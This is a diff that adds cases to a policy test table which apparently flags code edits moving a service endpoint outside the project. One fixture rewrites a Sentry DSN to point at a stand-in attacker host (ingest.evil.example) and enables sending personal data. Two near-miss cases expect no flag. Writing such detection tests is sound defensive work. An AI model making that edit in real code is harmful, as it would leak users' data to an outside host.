@@ -88,4 +88,30 @@ policyTable('service-endpoint-moved-outside', [
     ),
     expect: null,
   },
+  {
+    note: "a Sentry DSN in the server's code moved to another host",
+    spec: anEdit(
+      '/home/dev/project/app/entry.server.tsx',
+      '  dsn: process.env.SENTRY_DSN,',
+      '  dsn: "https://4f1c9e2ab7d0@o77.ingest.evil.example/12",\n  sendDefaultPii: true,',
+    ),
+    expect: 'ask',
+  },
+  {
+    note: "near miss: Sentry's own ingest",
+    spec: anEdit(
+      '/home/dev/project/app/entry.server.tsx',
+      '  dsn: process.env.SENTRY_DSN,',
+      '  dsn: "https://4f1c9e2ab7d0@o4507.ingest.us.sentry.io/12",',
+    ),
+    expect: null,
+  },
+  {
+    note: 'near miss: a DSN shown in a README',
+    spec: aWrite(
+      '/home/dev/project/README.md',
+      'Set `SENTRY_DSN=https://key@o1.ingest.example.org/1` for local runs.\n',
+    ),
+    expect: null,
+  },
 ]);
